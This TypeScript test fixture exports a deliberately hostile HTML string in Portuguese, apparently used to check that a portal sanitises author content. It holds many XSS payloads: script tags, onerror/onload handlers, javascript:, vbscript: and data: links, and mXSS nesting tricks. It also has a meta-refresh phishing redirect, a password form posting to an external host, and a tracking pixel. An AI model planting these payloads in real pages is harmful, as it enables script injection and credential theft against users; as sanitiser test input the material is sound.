/** HTML of a careless or malicious author, which the portal must show without harm. */

const TABLE_ROWS = Array.from(
  { length: 60 },
  (_, row) =>
    `<tr>${Array.from({ length: 14 }, (__, column) => `<td width="400" nowrap>Célula ${row + 1}.${column + 1}</td>`).join("")}</tr>`,
).join("");

export const HOSTILE_HTML = `<!DOCTYPE html><html><head><title>Comunicado</title>
<meta http-equiv="refresh" content="0;url=https://exemplo.example/phishing"><base href="https://exemplo.example/">
<style>body{display:none!important} * {position:fixed}</style><link rel="stylesheet" href="https://exemplo.example/x.css"></head>
<body onload="alert('body')" style="background:url(javascript:alert(1))">
<h1 onclick="alert(1)" style="position:fixed;inset:0;z-index:99999">Comunicado <em>importante</em></h1>
<p>Texto que deve aparecer: <strong>reunião na sexta-feira às 14h</strong>, no refeitório.</p>
<script>alert("script")</script><scr<script>ipt>alert("aninhado")</script>
<img src="x" onerror="alert('img')"><img src="https://exemplo.example/rastreador.gif" width="1" height="1">
<a href="javascript:alert('link')">Clique aqui</a> <a href=" java&#10;script:alert(1)">Ou aqui</a>
<a href="data:text/html,<script>alert(1)</script>">Ou ainda aqui</a> <a href="vbscript:msgbox(1)">VB</a>
<a href="https://valeverde.example/regulamento" target="_blank">Link bom</a> <a href="//exemplo.example/sem-protocolo">Sem protocolo</a>
<iframe src="https://exemplo.example/" srcdoc="<script>alert(1)</script>"></iframe><object data="x.swf"></object><embed src="x.swf">
<form action="https://exemplo.example/roubo" method="post"><label>Senha <input name="senha" type="password" autofocus></label><button>Confirmar</button></form>
<svg onload="alert('svg')"><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text y="20">svg</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<div id="root" name="body" class="fixed inset-0">Id e classe da página</div><template><script>alert(1)</script></template>
<video src="x" onerror="alert(1)" autoplay></video><marquee onstart="alert(1)">Texto corrido</marquee>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<table border="1" width="5000">${TABLE_ROWS}</table>
<p>${"PalavraSemFim".repeat(40)}</p>
<ul><li>Item sem fim <b>negrito <i>itálico <table><tr><td>tabela aberta`;
